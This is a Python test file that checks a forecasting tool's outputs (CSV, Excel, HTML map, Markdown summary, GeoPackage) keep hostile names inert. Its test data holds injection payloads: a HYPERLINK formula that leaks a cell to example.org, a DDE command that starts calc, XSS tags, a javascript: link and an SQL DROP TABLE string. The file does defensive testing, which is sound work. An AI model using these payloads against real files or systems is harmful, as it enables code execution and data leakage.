"""Text that would do something where it lands: it is shown as text in every output, whichever file it came with."""

from __future__ import annotations

import csv
import json
import sqlite3
from pathlib import Path

import openpyxl
import pytest

from forecast import cli, store
from tests.faults.cases import QUICK, merged
from tests.operation import ZONES, Operation

HOSTILE = {
    "a formula": '=HYPERLINK("http://example.org/?"&A1,"click")',
    "a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a sum": "+1+1",
    "a formula behind a tab": "\t=1+1",
    "a script": "<script>alert(1)</script>",
    "an image that fails": '"><img src=x onerror=alert(1)>',
    "the end of a script": "</script><script>alert(1)</script>",
    "a template": "${alert(1)} {{7*7}} `alert(1)`",
    "a table of Markdown": "a | b\n|---|---|\n[click](javascript:alert(1))",
    "control characters": "bell \x07, escape \x1b[31m, backspace \x08",
    "right to left": "\u202eevil\u202c \u200f\u2066",
    "a quote": 'it\'s "so"; DROP TABLE zones; --',
    "a very long name": "long " * 2000,
    "a line separator": "one\u2028two\u0085three",
    "an emoji and a half": "\U0001f69a \ufffe",
}
LIVE = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", HOSTILE.values(), ids=list(HOSTILE))
def test_hostile_names_stay_text_in_every_output(operation: Operation, text: str) -> None:
    run = _run_with(operation, text)
    for table in ("allocation.csv", "coverage.csv", "demand.csv", "problems.csv", "assumptions.csv", "pipeline.csv"):
        if (run / table).exists():
            _hold_no_live_cell(run / table)
    _hold_no_formula(run / "allocation.xlsx")
    page = (run / "map.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    assert 'href="javascript' not in page
    summary = (run / "summary.md").read_text(encoding="utf-8")
    assert "<script>" not in summary
    assert "[click](" not in summary
    assert "\x07" not in summary + page
    assert "\x1b" not in summary + page
    with sqlite3.connect(run / "allocation.gpkg") as layers:
        assert layers.execute("select count(*) from gpkg_contents").fetchone()[0] > 0
    json.loads((run / "manifest.json").read_text(encoding="utf-8"))


def _run_with(operation: Operation, text: str) -> Path:
    """The folder of a run in which zones, items, depots, batches and promises bear the text."""
    features = json.loads((operation.folder / "zones.geojson").read_text(encoding="utf-8"))
    for feature in features["features"]:
        feature["properties"] |= {"zone_name": text, "parent": text}
    (operation.folder / "zones.geojson").write_text(json.dumps(features), encoding="utf-8")
    operation.settings["items"]["kit"] |= {"name": text, "source": text}
    _write(operation.folder / "depots.csv", ["depot", "lat", "lon", "name"], ["D1", 5.2, 30.3, text], ["D2", 5.1, 31.2, text])
    stock = [["D1", "kit", 100, text, text], ["D2", "kit", 0, "", ""]]
    _write(operation.folder / "stock.csv", ["depot", "item", "quantity", "batch", "owner"], *stock)
    promise = [ZONES[0], "kit", "2026-03-02", 1, text, text]
    _write(operation.folder / "commitments.csv", ["zone", "item", "period", "minimum", "reason", "who"], promise)
    records = [[zone, "kit", week, 10, ""] for zone in ZONES for week in ("2026-02-09", "2026-02-16", "2026-02-23")]
    bad = [text, "kit", "2026-02-16", 10, ""]
    _write(operation.folder / "records.csv", ["zone", "item", "period", "distributed", "stock_end"], *records, bad)
    operation.input("commitments", path="commitments.csv")
    outputs = ["tables", "pipeline", "workbook", "geopackage", "map", "summary"]
    words = {"title": text, "publish": {"producer": text, "outputs": outputs}}
    operation.settings = merged(merged(operation.settings, QUICK), {**words, "panel": {"max_bad_share": 0.5}})
    operation.job()
    assert cli.main(["run", str(operation.folder / "config.yaml")]) == 0
    run = store.latest(operation.folder / "runs")
    assert run is not None
    return run


def _write(path: Path, *rows: list[object]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)


def _hold_no_live_cell(path: Path) -> None:
    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    live = [cell for cell in cells if cell.startswith(LIVE) and not _is_number(cell)]
    assert not live, f"{path.name}: {live[:3]}"
    assert not [cell for cell in cells if "\x07" in cell or "\x1b" in cell], path.name


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _hold_no_formula(path: Path) -> None:
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(("=", "@"))]


def test_a_code_that_is_a_formula_is_neutralised_wherever_it_stands(operation: Operation) -> None:
    code = "=1+1"
    operation.write_zones((code, *ZONES[1:]))
    operation.write_records((code, *ZONES[1:]))
    operation.settings = merged(operation.settings, QUICK)
    operation.job()
    assert cli.main(["run", str(operation.folder / "config.yaml")]) == 0
    run = store.latest(operation.folder / "runs")
    assert run is not None
    _hold_no_live_cell(run / "allocation.csv")
    assert "'=1+1" in (run / "allocation.csv").read_text(encoding="utf-8")
